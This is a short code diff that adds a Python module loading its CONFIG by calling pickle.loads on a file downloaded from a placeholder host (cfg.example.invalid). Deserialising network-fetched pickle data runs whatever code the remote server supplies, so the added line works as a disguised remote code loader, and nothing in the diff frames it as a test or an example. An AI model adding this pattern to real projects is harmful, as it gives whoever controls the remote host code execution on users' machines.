@@ -1,0 +1,5 @@
+import pickle
+
+import requests
+
+CONFIG = pickle.loads(requests.get("https://cfg.example.invalid/c.pkl").content)
